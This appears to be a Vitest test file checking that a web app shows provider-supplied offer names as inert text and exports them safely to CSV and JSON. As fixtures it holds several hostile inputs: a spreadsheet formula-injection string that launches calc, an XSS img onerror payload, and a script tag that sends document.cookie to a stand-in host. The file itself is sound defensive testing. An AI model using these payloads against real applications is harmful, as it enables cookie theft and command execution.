import { expect, it, vi } from 'vitest';
import { paths } from '../../src/paths.ts';
import { hostileOffer } from '../emulator/worlds/hostileOffer.ts';
import { openWorld } from './harness.ts';
import { reviewPath, scopesPath, subscription } from './places.ts';

const factory = subscription(8);
const name = `=cmd|' /C calc'!A0 <img src=x onerror="alert(1)"> reffO`;
/** Control characters, and those that turn or hide text; white space apart. https://www.unicode.org/reports/tr9/ */
const unseen = /[\p{Cc}\p{Cs}\u200b-\u200f\u202a-\u202e\u2060-\u2069]/u;

/** Everything on the page that a provider's words could have got into: elements, texts and attributes. */
function expectHarmless(): void {
  const main = document.querySelector('main');
  expect(main?.querySelectorAll('img, script, b, iframe, [onerror]')).toHaveLength(0);
  const texts = [...document.querySelectorAll('*')].flatMap((element) => [
    ...[...element.childNodes].flatMap((node) => (node.nodeType === Node.TEXT_NODE ? [node.nodeValue ?? ''] : [])),
    ...[...element.attributes].map(({ value }) => value),
  ]);
  expect([document.title, ...texts].filter((text) => unseen.test(text.replace(/[\n\r\t]/g, '')))).toEqual([]);
}

it('what a provider wrote is shown as plain words wherever it appears', async () => {
  const world = await openWorld({ world: 'busy', path: paths.offers });
  const { t, reads } = world;
  await reads('Proseware <b>Verified by Microsoft</b>', await world.row(name));
  expectHarmless();

  await world.follow(name);
  await reads([t.offer.provider, 'Proseware <b>Verified by Microsoft</b>', t.common.fromService]);
  await reads('<script>fetch("https://proseware.example/" + document.cookie)</script>');
  await reads([t.common.asWritten]);
  await reads('@SUM(1+1)*cmd');
  expect(document.title).toContain(name);
  expectHarmless();
  world.close();

  const scopes = await openWorld({ from: world, path: scopesPath([factory], hostileOffer) });
  await scopes.find('heading', t.delegate.title(name));
  await scopes.find('table', t.delegate.table);
  expectHarmless();
  await scopes.press(t.delegate.review);
  await scopes.find('heading', t.review.confirmTitle);
  expectHarmless();
});

it('a role that nobody knows counts as very high, and the same principal is one whatever its letters', async () => {
  const world = await openWorld({ world: 'busy', path: reviewPath([factory], hostileOffer) });
  const { t, reads } = world;
  await reads(t.offer.source.none);
  await reads([`${t.offer.overallLabel}: ${t.access.level.l4}`, t.access.finding.unknownRole()]);
  await reads(`<b>Contoso</b> Helpdesk +49 (0) 123 / @SUM(1+1)*cmd|' /C calc'!A0`);
  await reads('Contributor');
});

it('a receipt carries it to other programs as text, never as a formula', async () => {
  const world = await openWorld({ world: 'busy', path: reviewPath([subscription(12)], hostileOffer) });
  const { t } = world;
  const files: Blob[] = [];
  vi.spyOn(URL, 'createObjectURL').mockImplementation((file) => {
    if (file instanceof Blob) files.push(file);
    return 'blob:saved';
  });
  // Without a download behind it, the link would lead away.
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
  await world.tick(/Proseware/);
  await world.press(t.review.action(world.format, 1));
  await world.press(t.run.receipt);
  await world.reads(name);
  expectHarmless();
  await world.press(t.receipt.csv);
  await world.press(t.receipt.json);
  const [csv = '', json = ''] = await Promise.all(files.map((file) => file.text()));
  expect(csv).toContain('calc');
  expect(csv.split(/[\r\n]+|","/).filter((cell) => /^"?[=+@\t-]/.test(cell))).toEqual([]);
  expect(JSON.parse(json)).toMatchObject({ offer: { name: hostileOffer.name } });
});
